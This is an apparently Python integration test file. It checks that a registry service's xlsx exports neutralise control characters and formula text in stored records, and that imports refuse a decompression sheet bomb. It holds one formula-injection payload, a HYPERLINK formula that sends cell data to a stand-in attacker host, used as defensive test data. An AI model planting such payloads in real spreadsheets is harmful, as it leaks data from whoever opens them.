"""Every export and import route of grid_registry, found in the app's URL map (so a new one is
covered without editing this file), against hostile data on the real FerretDB:

* exports: records poisoned *after* validation (written through the store, below the domain,
  as old or migrated data would be) with characters an .xlsx cannot hold and with formula text;
  each export still answers 200, every cell is data (never a formula), the poison shows as
  U+FFFD;
* imports: a 400 MiB sheet bomb (a 600 KB upload) is refused as 422 problem+json on ``file``,
  before openpyxl is called.
"""

from __future__ import annotations

import io
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from openpyxl import load_workbook

from services.grid_registry.bootstrap import BLUEPRINTS
from services.grid_registry.documents.divisions import DivisionDocument
from services.grid_registry.documents.grids import GridDocument
from services.grid_registry.documents.teams import GridTeamDocument
from services.grid_registry.tests.integration.views.test_base_info import (
    make_division,
    make_grid,
)
from shared import workbooks
from shared.mongo.repository import TenantRepository
from shared.testing.workbooks import assert_every_import_refuses, routes, sheet_bomb
from shared.workbooks import FORMULA_PREFIXES, REPLACEMENT

pytestmark = pytest.mark.integration

MiB = 1_048_576
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
# \x00 cannot be stored at all on FerretDB/PostgreSQL (jsonb refuses it); the unit tests of
# shared.workbooks cover it. These two can, and did break every export of their tenant.
POISON = "东\x0b风\x1e村"
POISON_EXPORTED = f"东{REPLACEMENT}风{REPLACEMENT}村"


def overwrite(document: type[Any], key: str, change: Callable[[Any], None]) -> None:
    """Change one stored document of tenant-a below the domain: through the store's own
    repository (its write lease and revision), with no validation but the document's."""
    store = type("Store", (TenantRepository,), {"document": document})("tenant-a")
    stored = store.require(key)
    change(stored)
    store.save(stored)


def set_fields(**values: Any) -> Callable[[Any], None]:
    return lambda stored: [setattr(stored, name, value) for name, value in values.items()]


def poison_member(stored: Any) -> None:
    member = stored.memberships[0]
    member.person_name, member.phone, member.user_id = POISON, "+86 138 0000 0000", "@u-1"


@pytest.fixture
def poisoned(api_client):
    """A tenant whose every exported sheet holds poison and formula text somewhere."""
    api = api_client(BLUEPRINTS)
    d1, d2 = make_division("D1"), make_division("D2")
    g1, g2 = make_grid(d1, "G1", 0), make_grid(d1, "G2", 1)
    member = {"role": "grid_leader", "person_name": "王小明", "starts_on": "2026-01-01"}
    assert api.post(f"/grids/{g1}/team/members", json=member).status_code == 201
    yesterday = (datetime.now(UTC) - timedelta(days=1)).date().isoformat()
    figures = {"expected": 10, "collected": 9, "verified": 8, "as_of": yesterday}
    assert api.put(f"/grids/{g2}/base-info/population/floating", json=figures).status_code == 200

    overwrite(DivisionDocument, d1, set_fields(name=POISON))
    overwrite(DivisionDocument, d2, set_fields(name=FORMULA))
    overwrite(GridDocument, g1, set_fields(name=FORMULA))
    overwrite(GridDocument, g2, set_fields(code="-G2\x1e", name=POISON))
    overwrite(GridTeamDocument, g1, poison_member)
    return api


def test_every_export_survives_poison_and_writes_formula_text_as_text(poisoned):
    exports = routes(poisoned.app, "/export")
    assert exports, "no export route found in the URL map"

    for route in exports:
        response = poisoned.get(route)
        assert response.status_code == 200, (route, response.get_json())
        sheet = load_workbook(io.BytesIO(response.data)).active
        cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
        formulas = [cell.coordinate for cell in cells if cell.data_type == "f"]
        assert formulas == [], (route, formulas)
        texts = [cell for cell in cells if isinstance(cell.value, str)]
        assert any(REPLACEMENT in cell.value for cell in texts), f"{route}: no poisoned cell"
        looks_like_formula = [cell for cell in texts if cell.value.startswith(FORMULA_PREFIXES)]
        assert looks_like_formula, f"{route}: no formula-like text exported: seed some"
        assert all(cell.data_type == "s" and cell.quotePrefix for cell in looks_like_formula)


def test_the_poisoned_division_exports_replaced_and_the_formula_verbatim(poisoned):
    sheet = load_workbook(io.BytesIO(poisoned.get("/divisions/export").data)).active
    assert [row[1] for row in sheet.iter_rows(min_row=2, values_only=True)] == [
        POISON_EXPORTED,
        FORMULA,
    ]


def test_every_import_refuses_a_sheet_bomb_before_openpyxl_sees_it(api_client, monkeypatch):
    api = api_client(BLUEPRINTS)
    loads: list[object] = []
    monkeypatch.setattr(workbooks, "load_workbook", lambda *a, **k: loads.append(a))

    assert_every_import_refuses(api, sheet_bomb(400 * MiB))

    assert loads == []
